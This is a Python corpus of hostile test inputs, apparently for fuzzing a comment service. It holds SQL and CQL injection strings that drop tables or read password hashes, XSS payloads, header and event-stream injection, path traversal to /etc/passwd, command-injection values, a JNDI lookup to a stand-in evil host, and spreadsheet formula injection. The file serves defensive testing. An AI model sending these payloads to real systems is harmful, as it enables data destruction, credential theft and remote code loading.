"""What attackers write: texts that mean something to a database, a browser, a parser, a log or a terminal."""

# ruff: noqa: E501 - a corpus reads better in blocks

from __future__ import annotations

SQL = [
    "'", '"', "\\", "';--", "' OR '1'='1", "'; DROP TABLE comments; --", "1; DELETE FROM accounts", "') UNION SELECT 1 --",
    "x' AND 1=randomblob(1000000000) --", "%' OR 1=1 --", "'||(SELECT password_hash FROM accounts)||'", "\x00' OR 1=1",
    "Robert'); DROP TABLE bans;--", "ʼ; DROP TABLE comments", "\"; PRAGMA writable_schema=1; --",
]  # fmt: skip
CQL = [
    "'; TRUNCATE comments; --", "' ALLOW FILTERING", "$$; DROP KEYSPACE livecomments; $$", "token('x') > 0",
    "'); BEGIN BATCH DELETE FROM bans; APPLY BATCH; --", "{'a': 'b'}", "0x6578706c6f6974", "now()", "?", ":name",
]  # fmt: skip
XSS = [
    "<script>alert(1)</script>", "</script><script>alert(1)//", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "javascript:alert(1)", "\" onmouseover=\"alert(1)", "<iframe srcdoc='<script>alert(1)</script>'>", "<!--", "]]>",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "&lt;script&gt;", "<a href='data:text/html,x'>x</a>",
    "<style>@import'//x'</style>", "<math><mi//xlink:href='data:x,<script>'>", "\u2028alert(1)\u2029", "+ADw-script+AD4-",
]  # fmt: skip
LINES = [
    "x\r\nSet-Cookie: a=b", "x\nX-Evil: 1", "x\r\n\r\nHTTP/1.1 200 OK\r\n\r\n", "%0d%0aSet-Cookie:%20a=b", "\u560d\u560aX: y",
    "x\n\ndata: {}\n\n", "x\n\nevent: end\ndata: {}\n\n", "\nid: 9999999999999999999\n", "\rretry: 1\r", "\n:heartbeat\n\n",
    "data: x\nevent: delete\ndata: {\"commentId\": \"1\"}", "x\x85event: end\x85\x85", "x\x0b\x0cy", "x\u2028event: end\u2029",
]  # fmt: skip
PATHS = [
    "../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "..\\..\\windows", "/etc/passwd", "file:///etc/passwd", "%2e%2e%2f",
    "....//....//", "%252e%252e%252f", "/dev/null", "CON", "con.txt\x00.png", "~root", "$HOME", "`id`", "$(id)", "|id", ";id",
    "//evil.example/x", "http://evil.example/", "?x=1#y", "a/b", "a%2Fb", ".", "..", "%", "%zz", "%ff", "%00", "%c0%ae",
]  # fmt: skip
TEMPLATES = [
    "${jndi:ldap://evil.example/a}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "%s%s%s%n", "{0.__class__}", "%(x)s", "$1", "\\u0000",
    "*)(uid=*))(|(uid=*", "__proto__", "constructor", "() { :;}; echo x", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "\x1b[31mred",
]  # fmt: skip
UNICODE = [
    "\ufeff", "\u202etxet", "\u200b", "a\u0300\u0301\u0302", "\ufdfa", "İı", "ß", "ﬁ", "👩‍👩‍👧‍👦", "🏳️‍🌈", "\U0010ffff", "\ufffe", "\ud7ff", "é", "Å",
    "\U000e0041\U000e0042", "z̸͖̖̱͓̣", "ｆｕｌｌ", "١٢٣", "\u00a0", "\u3164", "ᄀ" * 50, "\x7f", "\x9f", "null", "undefined", "NaN", "true", "",
]  # fmt: skip
NUMBERS = [
    "0", "-1", "1.5", "1e309", "-0", "00", "0x10", "1_000", "9" * 30, "9223372036854775808", "18446744073709551615",
    "18446744073709551616", "-9223372036854775809", "Infinity", "+1", " 1", "1 ", "1,000",
]  # fmt: skip

TEXTS = [*SQL, *CQL, *XSS, *LINES, *PATHS, *TEMPLATES, *UNICODE, *NUMBERS]

DEEP = 50_000
BODIES: list[bytes] = [
    b"", b"{", b"}", b"[]", b"null", b"1", b'"x"', b"\x00", b"\xff\xfe{\x00}\x00", b"\xef\xbb\xbf{}", b"{}{}", b"{'a': 1}",
    b"{\"content\": \"\xff\"}", b"{\"content\": \"\xc0\xaf\"}", b"{\"content\": \"\xed\xa0\x80\"}", b"{\"content\": \"\\ud800\"}",
    b'{"content": "a", "content": "b"}', b'{"content": {"$gt": ""}}', b'{"content": ["x"]}', b'{"content": NaN}',
    b'{"content": 1e999}', b'{"content": ' + b"9" * 5_000 + b"}", b'{"content": "\x01"}', b'{"content": "x",}', b"//x\n{}",
    b"[" * DEEP, b'{"a":' * (DEEP // 5), b'{"content":' + b"[" * 30_000 + b"]" * 30_000 + b"}", b'{"__proto__": {"content": "x"}}',
    b"content=x", b"--x\r\nContent-Disposition: form-data; name=content\r\n\r\nx\r\n--x--", b"<content>x</content>",
    b"%7B%22content%22%3A%22x%22%7D", b'{"content": "' + b"x" * 60_000 + b'"}', b'{"content": "' + b"\\u0041" * 10_000 + b'"}',
    b"\x1f\x8b\x08\x00", b'{"content"', b'{"content": tru', b"{\"\xe2\x80\xae\": 1}", b"x" * 200_000,
]  # fmt: skip
"""Bodies that are no request of any endpoint."""
